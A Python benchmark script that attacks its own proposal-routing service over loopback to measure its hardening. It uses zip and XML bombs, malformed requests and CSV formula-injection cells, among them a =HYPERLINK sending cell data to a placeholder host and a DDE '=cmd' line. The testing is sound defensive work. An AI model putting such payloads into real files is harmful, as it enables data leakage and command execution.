"""Hostile inputs against a running service: each attack of issue 12, its answer, time and the server's
peak resident memory.

Starts `proposal-router serve` (benchmarks/server.py) on the given bundle and, as an attacker with only a
screener's key would over loopback, uploads the files of tests/attacks.py at full size (the 3 GiB zip
bomb included), the largest upload the service allows (a 200 MB CSV of real proposals), and sends the
hostile requests (the key is an analyst's only so that /metrics can be read; every attack is one a
screener's key may make). The server's resident memory is sampled every 10 ms for each attack.

    python benchmarks/hostile.py --bundle runs/demo/model      # the bundle scripts/demo.sh trains

writes benchmarks/results/hostile.json and the "Hostile inputs" table in benchmarks/README.md.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import string
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
from openpyxl import load_workbook
from readme_section import write_section
from server import Server, serve

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
from tests import attacks  # noqa: E402

RESULTS = REPO / "benchmarks" / "results" / "hostile.json"
COLUMNS = {"id_field": "编号", "title_field": "提案标题", "body_field": "提案内容"}
Attack = Callable[[httpx.Client, Path], tuple[str, float]]  # the answer, and seconds the server took


def _upload(http: httpx.Client, path: Path, name: str | None = None, **form: str) -> httpx.Response:
    with path.open("rb") as fh:
        return http.post("/v1/batches", files={"file": (name or path.name, fh)}, data={**COLUMNS, **form})


def _job_end(http: httpx.Client, job: int, seconds: float = 600) -> dict[str, Any]:
    deadline = time.monotonic() + seconds
    while True:
        state: dict[str, Any] = http.get(f"/v1/batches/{job}").json()
        if state["status"] in ("done", "failed", "cancelled") or time.monotonic() > deadline:
            return state
        time.sleep(0.2)


def _answer(response: httpx.Response) -> str:
    detail = response.json().get("detail") if "json" in response.headers.get("content-type", "") else None
    text = detail if isinstance(detail, str) else json.dumps(detail, ensure_ascii=False) if detail else ""
    return f"{response.status_code} {_short(text)}".strip()


def _short(text: str, limit: int = 110) -> str:
    text = " ".join(text.replace("|", "/").split())
    return text if len(text) <= limit else text[: limit - 1] + "…"


def _file_attack(build: Callable[[Path], Path], name: str) -> Attack:
    def run(http: httpx.Client, tmp: Path) -> tuple[str, float]:
        path = build(tmp / name)
        started = time.monotonic()
        answer = _upload(http, path)
        if answer.status_code != 202:
            return f"{_answer(answer)} ({path.stat().st_size / 1e3:,.0f} KB file)", time.monotonic() - started
        state = _job_end(http, answer.json()["id"])
        outcome = f"job {state['status']}: {state['done_rows']} routed, {state['failed_rows']} rows rejected"
        error = f"; {_short(state['error'])}" if state["error"] else ""
        return f"202, {outcome}{error}", time.monotonic() - started

    return run


def _formulas(http: httpx.Client, tmp: Path) -> tuple[str, float]:
    path = tmp / "formulas.csv"
    cells = ['=HYPERLINK("http://example.invalid/?d="&A2)', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x")']
    rows = [[f"F{i}", cell, "建议增加公交线路"] for i, cell in enumerate(cells)]
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([attacks.HEADER, *rows])
    started = time.monotonic()
    job = _job_end(http, _upload(http, path).json()["id"])
    workbook = http.get(f"/v1/batches/{job['id']}/result").content
    seconds = time.monotonic() - started
    book = load_workbook(io.BytesIO(workbook))
    live = sum(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    return f"job {job['status']}; {live} formula cells in the office's workbook", seconds


def _largest_upload(http: httpx.Client, tmp: Path) -> tuple[str, float]:
    """The largest file the service takes (PROPOSAL_ROUTER_MAX_UPLOAD_BYTES, 200 MB) of real proposals:
    read and stored, then cancelled (routing it would take hours and is measured by batch.py)."""
    with (REPO / "data" / "demo" / "intake_labelled.csv").open(encoding="utf-8") as fh:
        demo = [(r["title"], r["body"]) for r in csv.DictReader(fh)]
    path, size, i = tmp / "largest.csv", 0, 0
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(attacks.HEADER)
        while size < 199_000_000:
            title, body = demo[i % len(demo)]
            writer.writerow([f"L{i:06d}", title, body])
            size, i = fh.tell(), i + 1
    started = time.monotonic()
    answer = _upload(http, path)
    job = answer.json()["id"]
    while (state := http.get(f"/v1/batches/{job}").json())["status"] == "reading":
        time.sleep(0.2)
    read = time.monotonic() - started
    http.post(f"/v1/batches/{job}/cancel")
    outcome = f"{state['total_rows']:,} rows read and stored ({state['status']}), then cancelled"
    return f"{answer.status_code}; {outcome}" + (f"; {_short(state['error'])}" if state["error"] else ""), read


def _requests(http: httpx.Client, _: Path) -> tuple[str, float]:
    started = time.monotonic()
    headers = {"Content-Type": "application/json"}
    answers = {
        "lone surrogate": http.post("/v1/proposals", content='{"title": "\\ud800abc"}', headers=headers),
        "NUL in a query": http.get("/v1/proposals?department=%00"),
        "id 2^63-1": http.get(f"/v1/proposals/{2**63 - 1}"),
        "id 2^63": http.get(f"/v1/proposals/{2**63}"),
        "5,000-digit number": http.post("/v1/proposals", content='{"title": ' + "9" * 5000 + "}", headers=headers),
        "invalid UTF-8": http.post("/v1/proposals", content=b'{"title": "\xff\xfe"}', headers=headers),
        "page 10^20": http.get("/ui/queue?page=" + "9" * 20),
    }
    return "; ".join(f"{name} → {r.status_code}" for name, r in answers.items()), time.monotonic() - started


def _methods(http: httpx.Client, _: Path) -> tuple[str, float]:
    started = time.monotonic()
    before = len(http.get("/metrics").content)
    rng = random.Random(0)
    for _attempt in range(3000):
        http.request("".join(rng.choices(string.ascii_uppercase, k=12)), "/healthz")
    after = len(http.get("/metrics").content)
    return f"/metrics {before / 1e3:.0f} KB before, {after / 1e3:.0f} KB after", time.monotonic() - started


def _framing(http: httpx.Client, _: Path) -> tuple[str, float]:
    started = time.monotonic()
    headers = http.get("/ui/login").headers
    frames = f"X-Frame-Options {headers.get('x-frame-options')}; CSP {headers.get('content-security-policy')}"
    return frames, time.monotonic() - started


ATTACKS: list[tuple[str, Attack]] = [
    ("merged range A1:XFD1048576 (XLSX)", _file_attack(attacks.merge_bomb, "merged.xlsx")),
    ("zip bomb: 3 GiB of sheet XML (XLSX)", _file_attack(lambda p: attacks.zip_bomb(p, 3 * 2**30), "bomb.xlsx")),
    ("dimension A1:XFD1048576, a cell in row 1,048,576", _file_attack(attacks.dimension_bomb, "dimension.xlsx")),
    ("billion laughs in sheet XML", _file_attack(attacks.billion_laughs, "laughs.xlsx")),
    ("undefined entity in sheet XML", _file_attack(attacks.undefined_entity, "entity.xlsx")),
    ("JSONL: nested 100,000 deep, surrogate, 5,000 digits, NUL", _file_attack(attacks.bad_rows_jsonl, "bad.jsonl")),
    ("=HYPERLINK / =cmd / =WEBSERVICE cells (CSV)", _formulas),
    ("the largest upload allowed: 200 MB CSV", _largest_upload),
    ("hostile requests", _requests),
    ("3,000 made-up HTTP methods", _methods),
    ("framing the review page", _framing),
]


def measure(server: Server, chosen: list[tuple[str, Attack]]) -> list[dict[str, Any]]:
    rows = []
    with httpx.Client(base_url=server.url, headers={"X-API-Key": server.key}, timeout=600) as http:
        for name, attack in chosen:
            with tempfile.TemporaryDirectory() as tmp, attacks.PeakMemory(server.pid) as memory:
                answer, seconds = attack(http, Path(tmp))
            row = {"attack": name, "answer": answer, "seconds": round(seconds, 1), "peak_mb": memory.peak / 2**20}
            print(json.dumps(row, ensure_ascii=False), flush=True)
            rows.append(row)
    return rows


def write_table(rows: list[dict[str, Any]], bundle: str) -> None:
    lines = ["| attack | answer | time | server peak RSS |", "|---|---|---|---|"]
    lines += [f"| {r['attack']} | {r['answer']} | {r['seconds']:.1f} s | {r['peak_mb']:.0f} MB |" for r in rows]
    lines += ["", f"Measured {time.strftime('%Y-%m-%d')} serving {bundle} (int8) on SQLite, with the default limits."]
    write_section("hostile", lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--bundle", type=Path, required=True, help="bundle to serve, e.g. runs/demo/model")
    parser.add_argument("--only", help="run the attacks whose name contains this (nothing is written)")
    args = parser.parse_args()
    chosen = [(name, attack) for name, attack in ATTACKS if args.only is None or args.only in name]
    with serve(args.bundle, "int8", role="analyst") as server:  # analyst, to read /metrics
        rows = measure(server, chosen)
    if args.only:
        return
    RESULTS.write_text(json.dumps(rows, ensure_ascii=False, indent=2), encoding="utf-8")
    write_table(rows, str(args.bundle))


if __name__ == "__main__":
    main()
